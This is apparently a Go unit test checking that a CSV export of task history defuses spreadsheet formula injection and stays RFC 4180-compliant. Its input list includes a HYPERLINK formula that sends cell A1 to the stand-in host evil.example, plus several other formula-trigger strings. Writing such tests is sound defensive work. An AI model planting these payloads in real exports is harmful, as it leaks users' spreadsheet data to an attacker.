package sheet

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/starling-grid/starling/agent/control"
)

// Spreadsheets compute no cell of a file, whatever names a project gives to its tasks. Readers of
// RFC 4180 find all columns in each line.
func TestCSVIsSafeForSpreadsheets(t *testing.T) {
	evil := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "\x00=1+1",
		"＝1+1", "a\"b,c\nd", "plain", "",
	}
	var tasks []control.HistoryTask
	for _, x := range evil {
		tasks = append(tasks, control.HistoryTask{
			Name: x, Project: x, ProjectName: x, Workunit: x, App: x, PlanClass: x, Outcome: x, By: x, Code: x, Exit: x, Stderr: x,
			Finished: time.Date(2026, 5, 4, 12, 0, 0, 0, time.FixedZone("", 3600)), Elapsed: 1e9, CPUTime: 0.1,
		})
	}
	var b bytes.Buffer
	if err := WriteTasks(&b, tasks); err != nil {
		t.Fatal(err)
	}
	if lines := strings.Count(b.String(), "\r\n"); lines < len(tasks)+1 || !strings.HasSuffix(b.String(), "\r\n") {
		t.Errorf("%d lines end as they should", lines)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(rows) != len(tasks)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, row := range rows {
		for i, cell := range row {
			if start := strings.TrimSpace(cell); start != "" && strings.ContainsAny(start[:1], "=+-@") || strings.HasPrefix(start, "＝") {
				t.Errorf("%s: %q is a formula", taskColumns[i].name, cell)
			}
		}
	}
	if got := rows[len(evil)-2]; got[0] != "a\"b,c\nd" {
		t.Errorf("a harmless name came out as %q", got[0])
	}
	if got := strings.Join(rows[1][12:20], ","); got != ",,2026-05-04T11:00:00Z,,,0,1000000000,0.1" {
		t.Errorf("times and numbers: %s", got)
	}
}
